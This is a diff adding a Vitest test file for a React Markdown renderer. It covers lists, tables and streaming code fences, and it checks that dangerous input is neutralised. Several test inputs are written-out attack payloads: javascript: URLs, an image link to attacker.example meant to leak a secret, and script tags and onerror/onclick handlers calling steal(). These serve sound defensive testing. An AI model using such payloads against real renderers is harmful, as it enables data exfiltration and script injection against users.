@@ -0,0 +1,86 @@
+import { renderToStaticMarkup } from 'react-dom/server'
+import { describe, expect, it } from 'vitest'
+import { Markdown } from './Markdown'
+
+function render(text: string): string {
+  return renderToStaticMarkup(<Markdown text={text} />)
+}
+
+// Tag names in order, without attributes or text
+function tags(html: string): string[] {
+  return [...html.matchAll(/<(\/?[a-z0-9]+)/g)].map(match => match[1])
+}
+
+describe('Markdown', () => {
+  it('renders nothing for empty text', () => {
+    expect(render('')).toBe('')
+  })
+
+  it('renders nested lists', () => {
+    expect(tags(render('- a\n  - b\n    1. c\n- d'))).toEqual([
+      'ul', 'li', 'ul', 'li', 'ol', 'li', '/li', '/ol', '/li', '/ul', '/li', 'li', '/li', '/ul',
+    ])
+  })
+
+  it('keeps the start number of ordered lists', () => {
+    const html = render('3. three\n4. four')
+    expect(html).toContain('<ol start="3"')
+    expect(tags(html)).toEqual(['ol', 'li', '/li', 'li', '/li', '/ol'])
+  })
+
+  it('renders GFM tables with column alignment', () => {
+    const html = render('| Name | Qty |\n|:-----|----:|\n| Tea | 2 |')
+    expect(tags(html)).toEqual([
+      'div', 'table', 'thead', 'tr', 'th', '/th', 'th', '/th', '/tr', '/thead',
+      'tbody', 'tr', 'td', '/td', 'td', '/td', '/tr', '/tbody', '/table', '/div',
+    ])
+    expect(html).toMatch(/<th style="text-align:left"[^>]*>Name<\/th>/)
+    expect(html).toMatch(/<td style="text-align:right"[^>]*>2<\/td>/)
+  })
+
+  it('strips javascript: links and images', () => {
+    const html = render('[click](javascript:alert(1)) ![pic](javascript:alert(2)) [safe](https://example.com)')
+    expect(html).not.toContain('javascript:')
+    expect(html).toMatch(/<a target="_blank"[^>]*>click<\/a>/)
+    expect(tags(html)).not.toContain('img')
+    expect(html).toContain('href="https://example.com"')
+  })
+
+  it('loads remote images only when clicked', () => {
+    const html = render('![chart](https://attacker.example/leak?q=secret)')
+    expect(tags(html)).not.toContain('img')
+    expect(html).toMatch(/<button[^>]*>Load image “chart” from attacker\.example<\/button>/)
+  })
+
+  it('shows same-origin images directly', () => {
+    expect(render('![logo](/logo.png)')).toMatch(/<img src="\/logo\.png" alt="logo"/)
+    expect(tags(render('![x](//attacker.example/x.png)'))).not.toContain('img')
+  })
+
+  it('opens links in a new tab without a referrer', () => {
+    expect(render('[docs](https://example.com)')).toContain('rel="noopener noreferrer nofollow"')
+  })
+
+  it('shows raw HTML as text instead of rendering it', () => {
+    const html = render('<script>alert(1)</script>\n\n<b onclick="steal()">bold</b> <img src=x onerror="steal()">')
+    expect(tags(html)).not.toContain('script')
+    expect(tags(html)).not.toContain('b')
+    expect(tags(html)).not.toContain('img')
+    expect(html).toContain('&lt;script&gt;')
+  })
+
+  it('renders an open code fence as code while streaming', () => {
+    const html = render('Here:\n```js\nconst a = 1\n\n# not a heading')
+    expect(tags(html)).not.toContain('h1')
+    expect(html).toContain('language-js')
+    expect(html).toMatch(/<pre[^>]*><code[^>]*>[\s\S]*# not a heading\n<\/code><\/pre>/)
+  })
+
+  it('renders open tilde and longer fences as code', () => {
+    expect(render('~~~\n- not a list')).toMatch(/<code[^>]*>- not a list\n<\/code>/)
+
+    const html = render('````\n```js\nnested\n```\n| not | a table |')
+    expect(tags(html)).not.toContain('table')
+    expect(html).toMatch(/<code[^>]*>```js\nnested\n```\n\| not \| a table \|\n<\/code>/)
+  })
+})